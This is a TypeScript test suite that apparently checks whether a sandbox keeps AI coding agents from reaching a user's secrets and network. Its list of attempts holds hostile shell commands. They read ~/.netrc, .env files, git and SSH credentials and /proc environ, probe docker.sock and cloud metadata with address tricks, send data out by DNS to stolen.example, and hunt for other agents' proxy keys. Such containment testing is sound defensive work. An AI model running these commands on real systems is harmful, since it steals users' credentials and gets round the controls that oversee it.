import { execFile, execFileSync } from "node:child_process"
import { createSocket } from "node:dgram"
import { once } from "node:events"
import { writeFileSync } from "node:fs"
import { createServer } from "node:http"
import { hostname } from "node:os"
import { join } from "node:path"
import { promisify } from "node:util"
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest"
import type { Agents, AgentTask, Base, Repo, Sandbox, Workspace, Workspaces } from "../src/core/ports.ts"
import { gatewayHere } from "../src/engine/gateway-here.ts"
import { openRepo } from "../src/isolate/repo.ts"
import { detectSandbox } from "../src/isolate/sandbox.ts"
import { openWorkspaces } from "../src/isolate/workspaces.ts"
import { openAgents } from "../src/make/run-agent.ts"
import { shellOn } from "../src/verify/shell.ts"
import { everythingIn, homeFiles, homeSockets, openWorld, type World } from "./reach/world.ts"

/*
 * An agent tries. Each attempt is made twice: by hand as the user, where it must succeed, so that the test means something;
 * and as a maker's command in the real sandbox, with the real gateway, where nothing of it may come out.
 */

const signal = new AbortController().signal
const canIsolate =
  execFileSync("sh", ["-c", "bwrap --ro-bind / / --unshare-all true >/dev/null 2>&1 && echo yes || echo no"], {
    encoding: "utf8",
  }).trim() === "yes"

let world: World
let repo: Repo
let base: Base
let workspace: Workspace
let workspaces: Workspaces
let sandbox: Sandbox
let gateway: ReturnType<typeof gatewayHere>
let agents: Agents
let sessions = 0

beforeAll(async () => {
  world = await openWorld()
  for (const [name, value] of Object.entries(world.outer)) vi.stubEnv(name, value)
  repo = await openRepo(world.root, world.flyballHome)
  sandbox = await detectSandbox({ home: world.flyballHome, hidden: [world.root] })
  gateway = gatewayHere(world.flyballHome, world.outer)
  agents = agentsIn(sandbox)
  workspaces = openWorkspaces({ repo, sandbox, progress: () => {} })
  base = await workspaces.base(signal)
  workspace = await workspaces.open("c1", base.sha, undefined, {}, signal)
})

afterAll(async () => {
  vi.unstubAllEnvs()
  await gateway?.[Symbol.asyncDispose]()
  await world?.[Symbol.asyncDispose]()
})

function agentsIn(where: Sandbox): Agents {
  const { outer, root } = world
  const home = join(world.flyballHome, "sessions")
  return openAgents({ sandbox: where, outer, home, root, replayArgv: [], gateway })
}

/** A maker that runs a script, and all that it printed or left. */
async function attempt(script: string, more: Partial<AgentTask> = {}, who = agents) {
  const artifactDir = join(world.folder, "artifacts", String(++sessions))
  const result = await who.run(
    {
      role: "maker",
      agent: { name: "implementer", use: "command", command: script, skills: [], from: "loop" },
      cwd: workspace.path,
      around: workspace,
      prompt: "Mend it.\n",
      finding: { fingerprint: "f", source: "test", title: "t", body: "b", severity: "low", attemptable: true },
      attempt: 1,
      limits: { timeoutMs: 60_000, silenceMs: 60_000, outputBytes: 4_000_000 },
      artifactDir,
      change: "c1",
      // A way out there is, and little that it leads to.
      hosts: ["registry.example"],
      ...more,
    },
    signal,
  )
  return { result, said: result.said, left: `${JSON.stringify(result)}\n${everythingIn(artifactDir, workspace.path)}` }
}

/** The same by the user's own hand, in their checkout. */
async function byHand(script: string): Promise<string> {
  const line = `(${script}\n) 2>&1 || true`
  const { stdout } = await promisify(execFile)("sh", ["-c", line], { cwd: world.root, env: world.outer })
  return stdout
}

type Try = [what: string, script: (world: World) => string]

const dial = "node dial.mjs"
const credentials = (host: string) => `printf 'protocol=https\\nhost=${host}\\n\\n'`

const tries: Try[] = [
  ...homeFiles.map((name): Try => [`~/${name}`, ({ home }) => `cat ~/${name} ${join(home, name)}`]),
  ["the whole home, by search", ({ home }) => `grep -rsI canary ~ ${home} | head -50`],
  [
    "git credentials, by git",
    ({ home }) =>
      `${credentials("git.example")} | git credential fill; ${credentials("git.example")} | HOME=${home} git credential fill`,
  ],
  [
    "git credentials, by a helper of one's own",
    ({ home }) =>
      `${credentials("git.example")} | git -c credential.helper='store --file ${home}/.git-credentials' credential fill`,
  ],
  [
    "the socket of git's credential cache",
    ({ home }) =>
      `${credentials("cache.example")} | git credential-cache --socket ${home}/.cache/git/credential/socket get`,
  ],
  ["headers in the user's git config", ({ root }) => `git config --list; cat ${root}/.git/config`],
  ["the SSH agent", ({ home }) => `ssh-add -L; SSH_AUTH_SOCK=${home}/.ssh/agent.sock ssh-add -L`],
  ["an untracked .env", ({ root }) => `cat .env ${root}/.env; find . -name '.env*' | xargs cat`],
  ["untracked files of the checkout", ({ root }) => `cat notes.txt ${root}/notes.txt`],
  [
    "a file of another branch, by its id",
    ({ otherBlob, root }) =>
      `git cat-file -p ${otherBlob}; git -C ${root} show private:keys.txt; git show private:keys.txt`,
  ],
  ["all objects that git can list", () => "git cat-file --batch-all-objects --batch"],
  ...Object.entries(homeSockets).map(([name, path]): Try => [name, ({ home }) => `${dial} unix ${join(home, path)}`]),
  ["Flyball's database", ({ flyballHome }) => `${dial} unix ${flyballHome}/pg/.s.PGSQL.5432`],
  ["FLYBALL_HOME", ({ flyballHome }) => `cat ${flyballHome}/secret; grep -rs canary ${flyballHome}`],
  [
    "another agent's HOME",
    ({ flyballHome }) => `cat ${flyballHome}/sessions/*/home/*; cat ~/../../*/home/* /tmp/*/home/*`,
  ],
  ["an abstract unix socket", ({ abstract }) => `${dial} abstract ${abstract}`],
  [
    "a service on this machine's loopback",
    ({ port }) => `${dial} tcp 127.0.0.1 ${port}; ${dial} tcp localhost ${port}`,
  ],
  ["environment variables of the user", () => "env; set; cat /proc/self/environ"],
  [
    "other processes",
    () =>
      "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n' | grep -a canary; ps axeww 2>/dev/null | grep canary",
  ],
  ["other processes' files", ({ home }) => `for p in /proc/[0-9]*; do cat $p/root${home}/.netrc $p/cwd/.env; done`],
]

describe.skipIf(!canIsolate)("an agent in the sandbox does not reach", () => {
  test.each(tries)("%s", async (_, script) => {
    const written = script(world)
    expect(await byHand(written)).toContain(world.mark)
    const { result, left } = await attempt(written)
    expect(result.sandboxed).toBe(true)
    expect(left).not.toContain(world.mark)
  })

  test("a socket in /run", async ({ skip }) => {
    if (world.run === undefined) skip()
    const script = `${dial} unix ${world.run}/docker.sock; ${dial} unix /var/run/docker.sock; ls -A /run /var/run`
    expect(await byHand(script)).toContain(world.mark)
    expect((await attempt(script)).left).not.toContain(world.mark)
  })

  test("this machine by its own address, nor by IPv6's loopback", async ({ skip }) => {
    if (world.address === undefined) skip()
    const script = `${dial} tcp ${world.address} ${world.port}; ${dial} tcp ::1 ${world.port}`
    expect(await byHand(script)).toContain(world.mark)
    expect((await attempt(script)).left).not.toContain(world.mark)
  })

  test("the user's files through a link that Flyball would follow", async () => {
    const { left } = await attempt(`ln -sf ${world.home}/.netrc leak; ln -sf ${world.root}/.env .env; cat leak .env`)
    expect(left).not.toContain(world.mark)
    const captured = await workspaces.capture(workspace, "what it left", signal)
    const shown = execFileSync("git", ["show", captured.head], { cwd: repo.gitDir, encoding: "utf8" })
    expect(shown).toContain("leak")
    expect(shown).not.toContain(world.mark)
    const read = await onCheckout("cat leak .env", captured.head)
    expect(read).not.toContain(world.mark)
    await attempt("rm leak .env")
  })
})

describe.skipIf(!canIsolate)("the network of an agent in the sandbox", () => {
  const unreachable = /^no: (ENETUNREACH|EHOSTUNREACH|EADDRNOTAVAIL)$/m

  test.each([
    ["the cloud's metadata", "tcp 169.254.169.254 80"],
    ["the cloud's metadata by IPv6", "tcp fd00:ec2::254 80"],
    ["a server on the Internet", "tcp 192.0.2.1 443"],
    ["a private network", "tcp 10.0.0.1 22"],
  ])("has no way to %s", async (_, how) => {
    expect((await attempt(`${dial} ${how}`, { hosts: ["*"] })).said).toMatch(unreachable)
  })

  test.each([
    ["the cloud's metadata", "get http://169.254.169.254/latest/meta-data/iam/", ["*"]],
    ["the cloud's metadata, by a tunnel", "through 169.254.169.254:80", ["*"]],
    ["the cloud's metadata, by IPv6", "through [fd00:ec2::254]:80", ["*"]],
    ["the cloud's metadata, in other digits", "get http://2852039166/latest/meta-data/", ["*"]],
    ["the cloud's metadata, as a mapped address", "through [::ffff:169.254.169.254]:80", ["*"]],
    [
      "the cloud's metadata by a name that is listed and leads nowhere public",
      "get http://metadata.google.internal/",
      ["private:metadata.google.internal"],
    ],
    ["a name that leads to this machine", `get http://${hostname()}/`, [hostname()]],
    ["localhost, by a pattern", "through localhost:22", ["*", "*:22"]],
    ["a host that is not listed", "through exfiltration.example:443", ["registry.example"]],
    ["a port that is not listed", "through registry.example:22", ["registry.example"]],
  ])("is refused %s through the proxy", async (_, how, hosts) => {
    const { said } = await attempt(`${dial} ${how}`, { hosts })
    expect(said).toMatch(/^status 403/)
  })

  test("is none at all for a command, where nothing is listed", async () => {
    expect((await attempt(`${dial} get http://example.com/`, { hosts: [] })).said).toBe("no: ECONNREFUSED")
  })

  test("a redirect of a listed host leads no further than the list", async () => {
    const site = createServer((_, response) =>
      response.writeHead(302, { location: "http://169.254.169.254/latest/meta-data/" }).end("elsewhere"),
    ).listen(0, "127.0.0.1")
    await once(site, "listening")
    const bound = site.address()
    const url = `http://127.0.0.1:${typeof bound === "object" ? bound?.port : 0}/`
    const follow = `to=$(${dial} get ${url} | sed -n 's/^status 302 //p'); echo "to $to"; ${dial} get "$to"`
    const { said } = await attempt(follow, { hosts: [new URL(url).host, "*"] })
    expect(said).toMatch(/^to http:\/\/169\.254\.169\.254\/.*\nstatus 403/)
    site.close()
  })

  test("asks nobody for a name: neither its own resolver nor one that it brings along", async () => {
    const asked: string[] = []
    const resolver = createSocket("udp4", (message) => asked.push(message.toString("latin1")))
    resolver.bind(0)
    await once(resolver, "listening")
    const { port } = resolver.address()
    const exfiltrate = `${dial} udp ${world.address ?? "127.0.0.1"} ${port} stolen.example; ${dial} udp 127.0.0.1 ${port} stolen.example`
    await byHand(exfiltrate)
    await expect.poll(() => asked.some((text) => text.includes("stolen"))).toBe(true)
    asked.length = 0
    const { said } = await attempt(`${exfiltrate}; ${dial} name stolen.example; ${dial} through stolen.example:443`)
    expect(said).not.toContain("resolved")
    expect(said).toContain("is not on the list")
    expect(asked).toEqual([])
    resolver.close()
  })

  test("ends with the attempt: another one's key opens nothing", async () => {
    const site = createServer((_, response) => response.end("served")).listen(0, "127.0.0.1")
    await once(site, "listening")
    const bound = site.address()
    const host = `127.0.0.1:${typeof bound === "object" ? bound?.port : 0}`
    const first = await attempt(`${dial} get http://${host}/; echo "$HTTP_PROXY"`, { hosts: [host] })
    expect(first.said).toContain("served")
    const key = /x:([^@]+)@/.exec(first.said)?.[1] ?? ""
    const second = await attempt(`${dial} get http://${host}/ ${key}; ${dial} through ${host} ${key}`)
    expect(second.said.match(/^status 403/gm)).toHaveLength(2)
    site.close()
  })

  test("an agent does not find the key of another one that works at the same time", async () => {
    const marker = join(workspace.path, "go")
    const first = attempt(`echo "$HTTP_PROXY" > ~/mine; until [ -e go ]; do sleep 0.05; done; cat ~/mine`)
    const hunt =
      "cat /proc/[0-9]*/environ /tmp/*/mine ~/../../*/home/mine | tr '\\0' '\\n'; grep -rs fb_ ~/.. /tmp | head; env"
    const second = await attempt(hunt)
    writeFileSync(marker, "")
    const key = /x:(fb_[^@]+)@/.exec((await first).said)?.[1]
    expect(key).toBeDefined()
    expect(second.left).not.toContain(key)
    await attempt("rm go")
  })

  test("a command can't spend on the models that the gateway has keys for", async () => {
    const body = JSON.stringify({
      model: "claude-sonnet-5",
      max_tokens: 1,
      messages: [{ role: "user", content: "hi" }],
    })
    const script = `${dial} post /v1/messages '${body}'`
    const { result, left } = await attempt(script)
    expect(result.ended).toMatchObject({ is: "failed", code: "budget" })
    expect(left).not.toContain(world.mark)
  })
})

/** What a check of the project would print. */
async function onCheckout(command: string, commit = base.sha, where = sandbox): Promise<string> {
  const ran = await shellOn({ workspaces, sandbox: where, commit, command, timeoutMs: 60_000, signal })
  return `${ran.stdout}\n${ran.stderr}`
}

describe.skipIf(!canIsolate)("the project's code, when it is checked, does not reach", () => {
  const chosen = [
    "the whole home, by search",
    "git credentials, by git",
    "the SSH agent",
    "an untracked .env",
    "the Docker socket",
    "Flyball's database",
    "FLYBALL_HOME",
    "an abstract unix socket",
    "a service on this machine's loopback",
    "environment variables of the user",
    "other processes",
  ]
  test.each(tries.filter(([what]) => chosen.includes(what)))("%s", async (_, script) => {
    expect(await onCheckout(script(world))).not.toContain(world.mark)
  })

  test("the gateway", async () => {
    const { port, socket } = await gateway.open()
    const said = await onCheckout(`${dial} tcp 127.0.0.1 ${port}; ${dial} unix ${socket}; env | grep -i proxy`)
    expect(said).toMatch(/no: ECONNREFUSED\nno: ENOENT/)
    expect(said).not.toContain("fb_")
  })
})

test("where there is no sandbox, the result says so, and the supervisor hides nothing", async () => {
  const none = await detectSandbox({ home: world.flyballHome, disabled: true })
  const { result, said } = await attempt(`cat ${world.home}/.netrc; env`, {}, agentsIn(none))
  expect(result.sandboxed).toBe(false)
  // What is not handed on is not there; what lies in a file is.
  expect(said).toContain(`${world.mark}-netrc`)
  expect(said).not.toContain(`${world.mark}-env`)
})
